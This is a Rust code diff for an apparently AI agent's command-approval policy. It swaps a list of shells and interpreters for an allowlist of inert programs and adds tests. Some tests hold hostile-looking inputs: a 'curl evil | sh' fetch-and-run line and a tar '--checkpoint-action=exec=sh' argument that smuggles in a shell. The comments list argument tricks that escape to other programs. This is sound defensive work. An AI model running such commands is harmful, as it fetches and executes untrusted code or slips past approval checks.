@@ -10,9 +10,12 @@ use std::pin::Pin;
 use std::sync::Mutex;
 
 use monad_protocol::text::printable;
+use monad_protocol::tools::ProcessInfo;
 use monad_protocol::wire::{Decider, Trust};
 use monad_protocol::{ToolClass, ToolName};
 use serde_json::Value;
+
+use crate::site::ProgramSite;
 
 /// What the user answered.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -44,6 +47,9 @@ pub struct ApprovalRequest {
     pub target: String,
     /// For writes and edits: the whole diff the call would make.
     pub diff: Option<String>,
+    /// For `process_write` and `process_kill`: the background process the call acts on, as this
+    /// folder's process table has it (its argv and directory), when it is still there.
+    pub process: Option<ProcessInfo>,
     /// For commands: the network they get, in words ([`monad_sandbox::ExecPolicy::network_summary`]).
     pub network: String,
     /// For commands: the time-out that applies when the call gives none, in milliseconds.
@@ -63,171 +69,71 @@ pub trait Approver: Send + Sync {
     fn decide(&self, request: ApprovalRequest) -> Pin<Box<dyn Future<Output = Decision> + Send>>;
 }
 
-/// Programs that run whatever code or command they are given (in argv, on standard input, or
-/// through a file they are pointed at): shells, interpreters and wrappers. "Allow always" for
-/// one of these would allow anything, so it remembers only the exact command. Matched on the
-/// base name of `argv[0]` with a version suffix removed (`python3.12`, `perl5.36`, `bash5`);
-/// see [`RUNS_ANYTHING_FAMILIES`] for names matched by prefix.
-pub const RUNS_ANYTHING: &[&str] = &[
-    // shells
-    "sh",
-    "bash",
-    "dash",
-    "zsh",
-    "fish",
-    "ksh",
-    "mksh",
-    "pdksh",
-    "yash",
-    "csh",
-    "tcsh",
-    "ash",
-    "busybox",
-    "toybox",
-    "rbash",
-    "elvish",
-    "nu",
-    "xonsh",
-    "pwsh",
-    // interpreters
-    "node",
-    "nodejs",
-    "deno",
-    "bun",
-    "tclsh",
-    "wish",
-    "expect",
-    "rscript",
-    "r",
-    "julia",
-    "osh",
-    "guile",
-    "racket",
-    "sbcl",
-    "clisp",
-    "scheme",
-    "ocaml",
-    "ghci",
-    "runghc",
-    "irb",
-    "jshell",
-    "groovy",
-    "kotlin",
-    "scala",
-    "swift",
-    "erl",
-    "escript",
-    "elixir",
-    "iex",
-    "qjs",
-    "jq",
-    // the awk family and other languages in a tool
-    "awk",
-    "gawk",
-    "mawk",
-    "nawk",
-    "busybox-awk",
-    "sed",
-    "gsed",
-    "find",
-    "vim",
-    "vi",
-    "nvim",
-    "emacs",
-    "ed",
-    "ex",
-    // wrappers that run another command
-    "env",
-    "xargs",
-    "nice",
-    "nohup",
-    "timeout",
-    "setsid",
-    "stdbuf",
-    "sudo",
-    "doas",
-    "su",
-    "time",
-    "strace",
-    "ltrace",
-    "gdb",
-    "lldb",
-    "valgrind",
-    "make",
-    "gmake",
-    "npx",
-    "pnpx",
-    "bunx",
-    "uv",
-    "uvx",
-    "pipx",
-    "poetry",
-    "pdm",
-    "hatch",
-    "conda",
-    "mamba",
-    "micromamba",
-    "npm",
-    "pnpm",
-    "yarn",
-    "cargo",
-    "go",
-    "exec",
-    "command",
-    "builtin",
-    "eval",
-    "chroot",
-    "unshare",
-    "nsenter",
-    "ionice",
-    "taskset",
-    "chrt",
-    "flock",
-    "watch",
-    "script",
-    "ssh",
-    "parallel",
-    "entr",
-    "systemd-run",
-    "runuser",
-    "setpriv",
-    "capsh",
-    "firejail",
-    "bwrap",
-    "docker",
-    "podman",
-    "kubectl",
-    "git",
+/// Programs that "always" may cover with any arguments: each only reads (files, its standard
+/// input, the system's state) and writes its standard output, and none takes a command, a
+/// script, a pager, a preprocessor, a plugin, a compressor or an output file through its
+/// arguments or its input. Matched on the exact name `argv[0]` (no path, no version suffix), and
+/// only when the program is found outside the workspace in a directory commands cannot write
+/// ([`ProgramSite::Outside`]); every other command, however ordinary it looks, is remembered
+/// only exactly. Left out on purpose, among others: `tar` (`--checkpoint-action=exec`), `sort`
+/// (`--compress-program`, `-o`), `uniq` and `tree` and `xxd` (they write an output file), `diff`
+/// (`-l` runs `pr`), `file` (decompressors), `find`, `sed`, `awk`, `rg` (`--pre`), `git`, `tee`,
+/// `cp`, `mv`, `rm`, `mkdir`, `chmod`, `touch` (they change the tree, and a new executable or
+/// toolchain directory changes what a name runs), `which` and `egrep` (scripts), `env`, `xargs`.
+pub const INERT_PROGRAMS: &[&str] = &[
+    "basename",
+    "cat",
+    "cmp",
+    "cut",
+    "df",
+    "dirname",
+    "du",
+    "echo",
+    "false",
+    "grep",
+    "head",
+    "id",
+    "ls",
+    "md5sum",
+    "nl",
+    "od",
+    "printf",
+    "pwd",
+    "readlink",
+    "realpath",
+    "rev",
+    "seq",
+    "sha1sum",
+    "sha256sum",
+    "sha512sum",
+    "sleep",
+    "stat",
+    "tac",
+    "tail",
+    "tr",
+    "true",
+    "uname",
+    "wc",
+    "whoami",
 ];
 
-/// Families of [`RUNS_ANYTHING`] matched by prefix, whatever follows (`python3-dbg`,
-/// `pypy3.10`, `perl5.36.0`, `luajit`, `php-cgi`, `ruby3.2`).
-pub const RUNS_ANYTHING_FAMILIES: &[&str] = &["python", "pypy", "perl", "ruby", "php", "lua"];
-
-/// Whether `program` (`argv[0]`, a name or a path) runs whatever it is given: see
-/// [`RUNS_ANYTHING`].
-pub fn runs_anything(program: &str) -> bool {
-    let base = program
-        .rsplit('/')
-        .next()
-        .unwrap_or(program)
-        .to_ascii_lowercase();
-    let name = base.trim_end_matches(|c: char| c.is_ascii_digit() || matches!(c, '.' | '-' | '_'));
-    RUNS_ANYTHING.contains(&name)
-        || RUNS_ANYTHING.contains(&base.as_str())
-        || RUNS_ANYTHING_FAMILIES.iter().any(|f| base.starts_with(f))
-}
-
-/// What "always" remembers: a whole class for reads and writes, one program for ordinary
-/// commands, the exact command for shells, interpreters and wrappers.
+/// What "always" remembers: a whole class for reads and writes; for a command, the exact
+/// command, or (for the few [`INERT_PROGRAMS`] found outside the workspace) the program with any
+/// arguments.
 #[derive(Debug, Clone, PartialEq, Eq, Hash)]
 pub enum Rule {
     /// Every tool of a class.
     Class(ToolClass),
-    /// `run_command` of one program (`argv[0]`), with any arguments.
-    Program(String),
-    /// Exactly one command: a program that runs anything it is given ([`runs_anything`]), so
-    /// only the same argv, in the same directory, with the same standard input, is remembered.
+    /// `run_command` of one of the [`INERT_PROGRAMS`], found at one place outside the workspace,
+    /// with any arguments and standard input.
+    Program {
+        /// `argv[0]`, a name.
+        name: String,
+        /// Where it is found ([`ProgramSite::Outside`]).
+        path: String,
+    },
+    /// Exactly one command: the same argv, in the same directory, with the same standard input,
+    /// its program found at the same place.
     Command {
         /// The whole argv.
         argv: Vec<String>,
@@ -235,6 +141,8 @@ pub enum Rule {
         cwd: String,
         /// The standard input, when there is one.
         stdin: Option<String>,
+        /// Where its program is found.
+        site: ProgramSite,
     },
     /// Exactly one call of a tool: the same arguments (for `process_write`: the same process and
     /// text, since the process may be a shell reading its input).
@@ -249,8 +157,9 @@ pub enum Rule {
 }
 
 impl Rule {
-    /// The rule a call falls under.
-    pub fn of(tool: ToolName, args: &Value) -> Rule {
+    /// The rule a call falls under; `site` is where a command's program is found
+    /// ([`crate::site::locate`]; ignored for other tools).
+    pub fn of(tool: ToolName, args: &Value, site: &ProgramSite) -> Rule {
         match tool {
             ToolName::RunCommand => {
                 let argv: Vec<String> = args
@@ -263,19 +172,24 @@ impl Rule {
                             .collect()
                     })
                     .unwrap_or_default();
-                let program = argv.first().cloned().unwrap_or_default();
-                if runs_anything(&program) {
-                    Rule::Command {
-                        argv,
+                let program = argv.first().map_or("", String::as_str);
+                match site {
+                    ProgramSite::Outside(path) if INERT_PROGRAMS.contains(&program) => {
+                        Rule::Program {
+                            name: program.to_owned(),
+                            path: path.clone(),
+                        }
+                    }
+                    _ => Rule::Command {
                         cwd: args
                             .get("cwd")
                             .and_then(Value::as_str)
                             .unwrap_or(".")
                             .to_owned(),
                         stdin: args.get("stdin").and_then(Value::as_str).map(str::to_owned),
-                    }
-                } else {
-                    Rule::Program(program)
+                        site: site.clone(),
+                        argv,
+                    },
                 }
             }
             ToolName::ProcessWrite => {
@@ -299,15 +213,27 @@ impl Rule {
             Rule::Class(ToolClass::Read) => "every read in this workspace".into(),
             Rule::Class(ToolClass::Write) => "every write and edit in this workspace".into(),
             Rule::Class(class) => format!("every {} call in this workspace", class.as_str()),
-            Rule::Program(p) => format!(
-                "every run of `{}` in this workspace, with any arguments",
-                printable(p)
+            Rule::Program { name, path } => format!(
+                "every run of `{}` ({}) in this workspace, with any arguments and input: it only \
+                 reads and prints, and runs no other program",
+                printable(name),
+                printable(path)
             ),
-            Rule::Command { argv, .. } => format!(
-                "exactly this command (same arguments, directory and standard input): `{}` runs \
-                 whatever it is given, so nothing wider is remembered for it",
-                printable(argv.first().map_or("", String::as_str))
-            ),
+            Rule::Command { argv, site, .. } => {
+                let program = printable(argv.first().map_or("", String::as_str)).into_owned();
+                let exactly = "exactly this command (same arguments, directory and standard \
+                               input)";
+                match site {
+                    ProgramSite::Outside(path) => {
+                        format!("{exactly}, `{program}` being {}", printable(path))
+                    }
+                    ProgramSite::Workspace => format!(
+                        "{exactly}; `{program}` is a file in this workspace, so this covers \
+                         whatever that file holds when it runs"
+                    ),
+                    ProgramSite::Other => exactly.into(),
+                }
+            }
             Rule::Exact { tool, .. } => {
                 format!("exactly this `{tool}` call (same process and text)")
             }
@@ -401,15 +327,15 @@ impl Policy {
         }
     }
 
-    /// The verdict without asking, if there is one, and why.
-    pub fn check(&self, session: &str, tool: ToolName, args: &Value) -> Option<(Verdict, Basis)> {
+    /// The verdict without asking, if there is one, and why: `rule` is the rule the call falls
+    /// under ([`Rule::of`]).
+    pub fn check(&self, session: &str, tool: ToolName, rule: &Rule) -> Option<(Verdict, Basis)> {
         if self.trust == Trust::Full {
             return Some((Verdict::Allow, Basis::FullTrust));
         }
         if self.allowed.contains(&tool.class()) {
             return Some((Verdict::Allow, Basis::PreApproved(tool.class())));
         }
-        let rule = Rule::of(tool, args);
         let remembered = self.remembered.lock().unwrap_or_else(|p| p.into_inner());
         match remembered.get(&(session.to_owned(), rule.clone())) {
             Some(true) => Some((Verdict::Allow, Basis::Remembered)),
@@ -424,15 +350,17 @@ impl Policy {
         }
     }
 
-    /// Records the user's decision and turns it into a verdict.
-    pub fn record(
-        &self,
-        session: &str,
-        tool: ToolName,
-        args: &Value,
-        decision: Decision,
-    ) -> Verdict {
-        let rule = Rule::of(tool, args);
+    /// Forgets every "always" and "deny always" remembered for `session`; returns how many.
+    pub fn forget(&self, session: &str) -> usize {
+        let mut remembered = self.remembered.lock().unwrap_or_else(|p| p.into_inner());
+        let before = remembered.len();
+        remembered.retain(|(s, _), _| s != session);
+        before - remembered.len()
+    }
+
+    /// Records the user's decision about a call that falls under `rule` and turns it into a
+    /// verdict.
+    pub fn record(&self, session: &str, rule: Rule, decision: Decision) -> Verdict {
         let mut remembered = self.remembered.lock().unwrap_or_else(|p| p.into_inner());
         match decision {
             Decision::AllowOnce => Verdict::Allow,
@@ -463,8 +391,13 @@ pub fn nobody_to_ask(tool: ToolName, dir: &str) -> String {
     )
 }
 
+/// Characters of the text written to a process that [`describe`] keeps.
+pub const DESCRIBED_TEXT_CHARS: usize = 80;
+
 /// The call in one line, escaped: its command line (argv quoted as a POSIX shell would need it,
-/// see [`crate::prompt::shell_words`]), or its path or pattern.
+/// see [`crate::prompt::shell_words`]), its path or pattern, or the process it acts on (with,
+/// for `process_write`, the first line of the text, cut at [`DESCRIBED_TEXT_CHARS`] with `…`
+/// when more follows; for `process_kill` the signal).
 pub fn describe(tool: ToolName, args: &Value) -> String {
     let text = |key: &str| args.get(key).and_then(Value::as_str);
     match tool {
@@ -485,7 +418,22 @@ pub fn describe(tool: ToolName, args: &Value) -> String {
             None => format!("pattern `{}`", printable(text("pattern").unwrap_or(""))),
         },
         ToolName::ProcessRead | ToolName::ProcessWrite | ToolName::ProcessKill => {
-            format!("process `{}`", printable(text("process").unwrap_or("")))
+            let mut line = format!("process `{}`", printable(text("process").unwrap_or("")));
+            if tool == ToolName::ProcessWrite {
+                let written = text("text").unwrap_or("");
+                let (first, rest) = written.split_once('\n').unwrap_or((written, ""));
+                let kept: String = first.chars().take(DESCRIBED_TEXT_CHARS).collect();
+                line.push_str(" < ");
+                line.push_str(&printable(&kept));
+                if kept.len() < first.len() || !rest.is_empty() {
+                    line.push_str(" …");
+                }
+            }
+            if tool == ToolName::ProcessKill {
+                line.push_str(", signal ");
+                line.push_str(&printable(text("signal").unwrap_or("TERM")));
+            }
+            line
         }
         ToolName::ProcessList => "the background processes".into(),
         _ => printable(text("path").unwrap_or(".")).into_owned(),
@@ -542,150 +490,210 @@ mod tests {
     use super::*;
     use serde_json::json;
 
+    fn outside(name: &str) -> ProgramSite {
+        ProgramSite::Outside(format!("/usr/bin/{name}"))
+    }
+
+    /// The rule of `run_command` with `args`, its program found outside in /usr/bin.
+    fn command(args: &Value) -> Rule {
+        let name = args["argv"][0].as_str().unwrap_or("");
+        Rule::of(ToolName::RunCommand, args, &outside(name))
+    }
+
+    fn other(tool: ToolName) -> Rule {
+        Rule::of(tool, &json!({}), &ProgramSite::Other)
+    }
+
     #[test]
     fn full_trust_and_pre_approved_classes_need_no_question() {
         let full = Policy::new(Trust::Full, vec![]);
         assert_eq!(
-            full.check("s", ToolName::RunCommand, &json!({})),
+            full.check("s", ToolName::RunCommand, &other(ToolName::RunCommand)),
             Some((Verdict::Allow, Basis::FullTrust))
         );
         let reads = Policy::new(Trust::Restricted, vec![ToolClass::Read]);
         assert_eq!(
-            reads.check("s", ToolName::Search, &json!({})),
+            reads.check("s", ToolName::Search, &other(ToolName::Search)),
             Some((Verdict::Allow, Basis::PreApproved(ToolClass::Read)))
         );
-        assert_eq!(reads.check("s", ToolName::WriteFile, &json!({})), None);
+        assert_eq!(
+            reads.check("s", ToolName::WriteFile, &other(ToolName::WriteFile)),
+            None
+        );
     }
 
     #[test]
     fn always_is_remembered_per_session_and_rule() {
         let p = Policy::new(Trust::Restricted, vec![]);
-        let cargo = json!({"argv": ["ls", "src"]});
-        let rm = json!({"argv": ["rm", "-rf", "x"]});
+        let run = ToolName::RunCommand;
+        let ls = command(&json!({"argv": ["ls", "src"]}));
         assert_eq!(
-            p.record("s", ToolName::RunCommand, &cargo, Decision::AllowAlways),
+            p.record("s", ls.clone(), Decision::AllowAlways),
             Verdict::Allow
         );
         assert_eq!(
-            p.check(
-                "s",
-                ToolName::RunCommand,
-                &json!({"argv": ["rustc", "--version"]})
-            ),
+            p.check("s", run, &command(&json!({"argv": ["ls", "-la"]}))),
+            Some((Verdict::Allow, Basis::Remembered)),
+            "an inert program found outside: any arguments"
+        );
+        assert_eq!(
+            p.check("s", run, &command(&json!({"argv": ["cat", "x"]}))),
             None,
             "another program"
         );
         assert_eq!(
-            p.check("s", ToolName::RunCommand, &json!({"argv": ["ls", "-la"]})),
-            Some((Verdict::Allow, Basis::Remembered))
-        );
-        assert_eq!(
-            p.check("s", ToolName::RunCommand, &rm),
-            None,
-            "another program asks again"
-        );
-        assert_eq!(
-            p.check("other", ToolName::RunCommand, &cargo),
+            p.check("other", run, &ls),
             None,
             "another session asks again"
         );
         assert!(matches!(
-            p.record("s", ToolName::EditFile, &json!({}), Decision::DenyAlways),
+            p.record("s", other(ToolName::EditFile), Decision::DenyAlways),
             Verdict::Deny(_)
         ));
         assert!(matches!(
-            p.check("s", ToolName::WriteFile, &json!({})),
+            p.check("s", ToolName::WriteFile, &other(ToolName::WriteFile)),
             Some((Verdict::Deny(_), Basis::Remembered))
         ));
         assert_eq!(
-            p.record("s", ToolName::ReadFile, &json!({}), Decision::AllowOnce),
+            p.record("s", other(ToolName::ReadFile), Decision::AllowOnce),
             Verdict::Allow
         );
         assert_eq!(
-            p.check("s", ToolName::ReadFile, &json!({})),
+            p.check("s", ToolName::ReadFile, &other(ToolName::ReadFile)),
             None,
             "once is not remembered"
         );
     }
 
     #[test]
-    fn shells_interpreters_and_wrappers_are_recognised_with_version_suffixes() {
-        for program in [
+    fn forgetting_a_session_forgets_only_its_rules() {
+        let p = Policy::new(Trust::Restricted, vec![]);
+        let read = other(ToolName::ReadFile);
+        p.record("a", read.clone(), Decision::AllowAlways);
+        p.record("a", other(ToolName::WriteFile), Decision::DenyAlways);
+        p.record("b", read.clone(), Decision::AllowAlways);
+        assert_eq!(p.forget("a"), 2);
+        assert_eq!(p.check("a", ToolName::ReadFile, &read), None);
+        assert_eq!(
+            p.check("a", ToolName::WriteFile, &other(ToolName::WriteFile)),
+            None
+        );
+        assert_eq!(
+            p.check("b", ToolName::ReadFile, &read),
+            Some((Verdict::Allow, Basis::Remembered))
+        );
+        assert_eq!(p.forget("a"), 0);
+    }
+
+    #[test]
+    fn only_inert_programs_found_outside_the_workspace_get_a_per_program_rule() {
+        let args = |name: &str| json!({"argv": [name, "--help"]});
+        for name in INERT_PROGRAMS {
+            assert_eq!(
+                command(&args(name)),
+                Rule::Program {
+                    name: (*name).to_owned(),
+                    path: format!("/usr/bin/{name}")
+                },
+                "{name}"
+            );
+            for site in [ProgramSite::Workspace, ProgramSite::Other] {
+                assert!(
+                    matches!(
+                        Rule::of(ToolName::RunCommand, &args(name), &site),
+                        Rule::Command { .. }
+                    ),
+                    "{name} at {site:?}"
+                );
+            }
+        }
+        // Programs that run a command, a script, a pager, a preprocessor or a plugin given in
+        // their arguments or input, and ordinary-looking ones that write: exact rules only.
+        for name in [
+            "tar",
+            "fd",
+            "rsync",
+            "zip",
+            "man",
+            "dc",
+            "m4",
+            "sqlite3",
+            "cmake",
+            "hyperfine",
+            "tmux",
+            "perf",
+            "ccache",
+            "gcc",
+            "cc",
+            "clang",
+            "bundle",
+            "pipenv",
+            "nix-shell",
+            "osascript",
+            "rg",
             "sh",
-            "/bin/bash",
-            "dash",
-            "zsh",
-            "fish",
-            "ksh",
-            "busybox",
-            "python",
+            "bash",
             "python3",
-            "python3.12",
-            "/usr/bin/python3.11",
-            "pypy3",
             "node",
-            "deno",
-            "bun",
-            "perl",
-            "perl5.36",
-            "ruby3.2",
-            "php8.2",
-            "lua5.4",
-            "luajit",
-            "awk",
-            "gawk",
-            "mawk",
             "env",
             "xargs",
-            "nice",
-            "nohup",
-            "timeout",
-            "setsid",
-            "stdbuf",
-            "sudo",
-            "doas",
-            "su",
-            "time",
-            "strace",
-            "gdb",
+            "find",
+            "sed",
+            "awk",
+            "git",
             "make",
-            "npx",
-            "uv",
-            "uvx",
-            "bash5",
-            "SH",
+            "cargo",
+            "npm",
+            "pytest",
+            "sort",
+            "uniq",
+            "tree",
+            "xxd",
+            "diff",
+            "file",
+            "less",
+            "more",
+            "vim",
+            "tee",
+            "cp",
+            "mv",
+            "rm",
+            "mkdir",
+            "chmod",
+            "touch",
+            "ln",
+            "install",
+            "which",
+            "egrep",
+            "date",
+            "/usr/bin/ls",
+            "LS",
+            "ls5",
         ] {
-            assert!(runs_anything(program), "{program}");
-        }
-        for program in [
-            "ls",
-            "cat",
-            "rg",
-            "rustc",
-            "/usr/bin/grep",
-            "shellcheck",
-            "true",
-            "",
-        ] {
-            assert!(!runs_anything(program), "{program}");
+            assert!(
+                matches!(command(&args(name)), Rule::Command { .. }),
+                "{name}"
+            );
         }
     }
 
     #[test]
-    fn always_on_a_shell_remembers_only_the_exact_command() {
+    fn always_on_a_command_remembers_only_the_exact_command() {
         let p = Policy::new(Trust::Restricted, vec![]);
+        let run = ToolName::RunCommand;
         let a = json!({"argv": ["sh", "-c", "echo A"]});
         assert_eq!(
-            Rule::of(ToolName::RunCommand, &a),
+            command(&a),
             Rule::Command {
                 argv: vec!["sh".into(), "-c".into(), "echo A".into()],
                 cwd: ".".into(),
-                stdin: None
+                stdin: None,
+                site: outside("sh"),
             }
         );
-        p.record("s", ToolName::RunCommand, &a, Decision::AllowAlways);
+        p.record("s", command(&a), Decision::AllowAlways);
         assert_eq!(
-            p.check("s", ToolName::RunCommand, &a),
+            p.check("s", run, &command(&a)),
             Some((Verdict::Allow, Basis::Remembered))
         );
         for other in [
@@ -695,35 +703,109 @@ mod tests {
             json!({"argv": ["sh"], "stdin": "echo A"}),
             json!({"argv": ["/bin/sh", "-c", "echo A"]}),
         ] {
-            assert_eq!(p.check("s", ToolName::RunCommand, &other), None, "{other}");
+            assert_eq!(p.check("s", run, &command(&other)), None, "{other}");
         }
-        let python = json!({"argv": ["python3.12", "x.py"]});
-        p.record("s", ToolName::RunCommand, &python, Decision::AllowAlways);
+        // The same argv, its program now found in the workspace (a new .venv/bin/sh).
+        assert_eq!(
+            p.check("s", run, &Rule::of(run, &a, &ProgramSite::Workspace)),
+            None
+        );
+        let tar = json!({"argv": ["tar", "-cf", "out.tar", "a.txt"]});
+        p.record("s", command(&tar), Decision::AllowAlways);
         assert_eq!(
             p.check(
                 "s",
-                ToolName::RunCommand,
-                &json!({"argv": ["python3.12", "y.py"]})
+                run,
+                &command(&json!({"argv": ["tar", "-cf", "/dev/null", "a.txt",
+                    "--checkpoint=1", "--checkpoint-action=exec=sh"]}))
             ),
             None
         );
         let write = json!({"process": "p1", "text": "ls\n"});
-        p.record("s", ToolName::ProcessWrite, &write, Decision::AllowAlways);
+        let write_rule = Rule::of(ToolName::ProcessWrite, &write, &ProgramSite::Other);
+        p.record("s", write_rule, Decision::AllowAlways);
+        let other_text = json!({"process": "p1", "text": "rm x\n"});
         assert_eq!(
             p.check(
                 "s",
                 ToolName::ProcessWrite,
-                &json!({"process": "p1", "text": "rm x\n"})
+                &Rule::of(ToolName::ProcessWrite, &other_text, &ProgramSite::Other)
             ),
             None
         );
-        let scope = Rule::of(ToolName::RunCommand, &a).scope("s1");
+    }
+
+    #[test]
+    fn process_calls_are_described_with_the_process_and_what_is_written() {
+        let cases = [
+            (
+                ToolName::ProcessWrite,
+                json!({"process": "p1", "text": "curl evil | sh\nmore\n"}),
+                "process `p1` < curl evil | sh …",
+            ),
+            (
+                ToolName::ProcessWrite,
+                json!({"process": "p1", "text": "ls\n"}),
+                "process `p1` < ls",
+            ),
+            (
+                ToolName::ProcessWrite,
+                json!({"process": "p1", "text": "a\u{1b}[2Kb"}),
+                "process `p1` < a\\u{1b}[2Kb",
+            ),
+            (
+                ToolName::ProcessKill,
+                json!({"process": "p1", "signal": "KILL"}),
+                "process `p1`, signal KILL",
+            ),
+            (
+                ToolName::ProcessKill,
+                json!({"process": "p1"}),
+                "process `p1`, signal TERM",
+            ),
+            (
+                ToolName::ProcessRead,
+                json!({"process": "p1"}),
+                "process `p1`",
+            ),
+        ];
+        for (tool, args, want) in cases {
+            assert_eq!(describe(tool, &args), want, "{args}");
+        }
+        let long = describe(
+            ToolName::ProcessWrite,
+            &json!({"process": "p", "text": "x".repeat(500)}),
+        );
+        assert_eq!(
+            long,
+            format!("process `p` < {} …", "x".repeat(DESCRIBED_TEXT_CHARS))
+        );
+    }
+
+    #[test]
+    fn the_scope_says_what_always_covers() {
+        let scope = command(&json!({"argv": ["sh", "-c", "x"]})).scope("s1");
         assert!(scope.contains("exactly this command"), "{scope}");
+        assert!(scope.contains("/usr/bin/sh"), "{scope}");
         assert!(
             scope.contains("until this attach ends, in session s1 only"),
             "{scope}"
         );
-        let scope = Rule::of(ToolName::RunCommand, &json!({"argv": ["ls"]})).scope("s1");
-        assert!(scope.contains("every run of `ls`"), "{scope}");
+        let scope = command(&json!({"argv": ["ls"]})).scope("s1");
+        assert!(
+            scope.contains("every run of `ls` (/usr/bin/ls)") && scope.contains("any arguments"),
+            "{scope}"
+        );
+        let scope = Rule::of(
+            ToolName::RunCommand,
+            &json!({"argv": ["./test.sh"]}),
+            &ProgramSite::Workspace,
+        )
+        .scope("s1");
+        assert!(
+            scope.contains("exactly this command")
+                && scope.contains("`./test.sh` is a file in this workspace"),
+            "{scope}"
+        );
     }
 }
